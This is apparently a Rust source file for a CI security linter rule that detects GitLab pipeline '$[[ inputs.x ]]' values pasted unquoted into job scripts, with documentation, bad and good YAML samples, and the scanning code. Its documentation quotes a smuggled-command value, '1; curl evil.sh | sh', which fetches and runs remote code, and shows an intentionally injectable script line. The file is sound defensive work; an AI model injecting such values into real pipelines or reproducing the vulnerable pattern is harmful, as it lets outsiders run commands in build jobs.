//! `gitlab/inputs-injection`: `$[[ inputs.x ]]` interpolated into a script. Inputs
//! are substituted into the YAML text before the job starts, so the shell parses
//! their value as code. Inputs constrained by `type: boolean`/`number`, `options:` or
//! `regex:` in the file's `spec:` header are not reported.

use super::GITLAB;
use crate::finding::{Category, Confidence, Severity, Span};
use crate::rules::{Ctx, FixMeta, Rule, RuleMeta, StepSite};
use crate::workflow::Platform;
use pipewise_yaml::Node;

pub struct InputsInjection;

pub static META: RuleMeta = RuleMeta {
    id: "gitlab/inputs-injection",
    title: "Pipeline input interpolated into a script",
    severity: Severity::Medium,
    confidence: Confidence::High,
    category: Category::Security,
    summary: "A free-text `$[[ inputs.name ]]` is written into `script:`, so its value is pasted into the shell code before the job runs.",
    impact: "Whoever sets the input (a project that includes the component, a pipeline run with inputs, a schedule or trigger) runs commands in the job.",
    doc: r#"
## Why it matters
`$[[ inputs.x ]]` is replaced in the configuration text when the pipeline is created,
like `${{ }}` in GitHub Actions: the script then contains the value itself, and a value
such as `1; curl evil.sh | sh` is code. Constrained inputs (`type: boolean`, `number`,
`options:`, `regex:`) are not reported.

## Bad
```yaml
spec:
  inputs:
    version:
---
release:
  script:
    - ./release.sh $[[ inputs.version ]]
```

## Good
```yaml
spec:
  inputs:
    version:
      regex: ^v\d+\.\d+\.\d+$
---
release:
  variables:
    VERSION: $[[ inputs.version ]]
  script:
    - ./release.sh "$VERSION"
```
"#,
    fix: FixMeta {
        description: "Pass the input through a job variable and quote it in the script, or constrain it with `options:` or `regex:`.",
        snippet: "variables:\n  VERSION: $[[ inputs.version ]]\nscript:\n  - ./release.sh \"$VERSION\"",
        effort_minutes: 10,
    },
    references: &["https://docs.gitlab.com/ci/inputs/"],
};

/// Whether the input is constrained by its declaration in the `spec:` header.
fn constrained(header: Option<&Node>, name: &str) -> bool {
    let Some(decl) = header
        .and_then(|h| h.get("spec"))
        .and_then(|s| s.get("inputs"))
        .and_then(|i| i.get(name))
    else {
        return false;
    };
    decl.get("options").is_some()
        || decl.get("regex").is_some()
        || matches!(
            decl.get("type").and_then(Node::as_str),
            Some("boolean" | "number")
        )
}

impl Rule for InputsInjection {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }
    fn platforms(&self) -> &'static [Platform] {
        GITLAB
    }
    fn step(&self, site: &StepSite, cx: &mut Ctx) {
        let Some(run) = &site.step.run else { return };
        let text = run.text;
        // A prebuilt searcher: `find_literal` would stop at every `$` of the
        // script's variables (65,517 stops on corpus-gitlab for a handful of hits).
        static OPEN: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
            std::sync::LazyLock::new(|| memchr::memmem::Finder::new("$[["));
        // Most lines interpolate no input: a line without a `[` has none (one byte
        // search); else asked once for a line that a template gives many jobs (one
        // `Arc`).
        if memchr::memchr(b'[', text.as_bytes()).is_none()
            || !cx.run_fact(run, "interpolates `$[[`", |r| {
                OPEN.find(r.text.as_bytes()).is_some()
            })
        {
            return;
        }
        let mut from = 0;
        while let Some(off) = text.as_bytes().get(from..).and_then(|t| OPEN.find(t)) {
            let at = from + off;
            let end = crate::keywords::find_literal(&text[at..], "]]")
                .map(|e| at + e + 2)
                .unwrap_or(text.len());
            from = end.max(at + 3);
            let inner = text[at + 3..end.saturating_sub(2).max(at + 3)].trim();
            let Some(rest) = inner.strip_prefix("inputs.") else {
                continue;
            };
            let name: String = rest
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == '_' || *c == '-')
                .collect();
            if name.is_empty() || constrained(site.doc.header.as_ref(), &name) {
                continue;
            }
            let span = run.source_span(site.doc, Span::new(at, end));
            cx.report(
                &META,
                site.path,
                span,
                format!("`$[[ inputs.{name} ]]` is pasted into the script before it runs: a value with `;`, `$(…)` or quotes is executed as shell code."),
            )
            .site(site);
        }
    }
}
